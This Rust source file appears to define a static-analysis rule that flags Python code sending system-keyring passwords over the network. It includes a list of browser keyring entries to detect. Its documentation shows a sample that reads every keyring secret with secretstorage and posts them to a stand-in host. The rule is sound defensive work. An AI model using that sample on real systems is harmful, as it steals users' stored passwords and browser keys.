use airlock_model::{Confidence, RuleMeta, Severity};

use super::destination::Destination;
use crate::python::model::origin::SourceKind;
use crate::rules::arrivals::Arrival;
use crate::rules::check::Check;
use crate::rules::sinks::{Part, SinkKind};
use crate::rules::{Rule, rule::Hook};

pub(crate) const RULE: Rule = Rule {
    meta: RuleMeta {
        id: "AL-FLOW-keyring-to-network",
        title: "Passwords of the system's keyring are sent away",
        severity: Severity::Critical,
        confidence: Confidence::Medium,
        cwe: Some(522),
        bandit: &[],
        ruff: &[],
        remedy: "Read only the plugin's own entry of the keyring, and use it only to log in where it belongs.",
        doc: DOC,
    },
    hooks: &[Hook::Flow(&[SourceKind::Keyring], &[SinkKind::Send], check)],
};

/// Entries that belong to browsers.
const BROWSERS: &[&str] = &["chrome", "chromium", "brave", "edge", "opera", "vivaldi", "safe storage"];

fn check(check: &mut Check<'_, '_>, arrival: &Arrival) {
    let destination = Destination::of(&arrival.destinations);
    // One's own entry, to log in, is what a keyring is for.
    let is_theft = |part: Part, path: &str, name: Option<&str>| {
        let is_one = path.starts_with("keyring.");
        let of_browser = name.is_some_and(|name| BROWSERS.iter().any(|word| name.to_ascii_lowercase().contains(word)));
        !is_one || of_browser || (destination.is_suspicious() && part != Part::Address)
    };
    let mut flows = arrival.of(&[SourceKind::Keyring]);
    let Some((_, flow)) = flows.find(|(part, flow)| is_theft(*part, &flow.path, flow.name.as_deref())) else { return };
    let message = format!("{} sends what {} gives of the keyring{}", arrival.path, flow.path, destination.phrase());
    let finding = super::finding(check, arrival, flow, message);
    check.report(finding);
}

const DOC: &str = r##"## What it finds
What `secretstorage`, `win32crypt`, the `security` program and their kin give out, or a browser's entry read by `keyring`, that reaches a request, a socket or a mail; any entry that is sent to a bare address, a paste site or a tunnel. A plugin's own entry that is used to log in is not meant.

## Why it is dangerous
The keyring holds the passwords of every program of the user, and the keys with which browsers lock theirs.

## Example
```python
import requests
import secretstorage

items = secretstorage.get_default_collection(secretstorage.dbus_init()).get_all_items()
requests.post("https://collect.example.net/k", json=[str(item.get_secret()) for item in items])
```

## Safe form
```python
import keyring
import requests

password = keyring.get_password("weather-plugin", "me")
requests.get("https://api.example.org/v1", auth=("me", password), timeout=10)
```

## References
- [MITRE ATT&CK T1555: Credentials from Password Stores](https://attack.mitre.org/techniques/T1555/)
- CWE-522: Insufficiently Protected Credentials
"##;
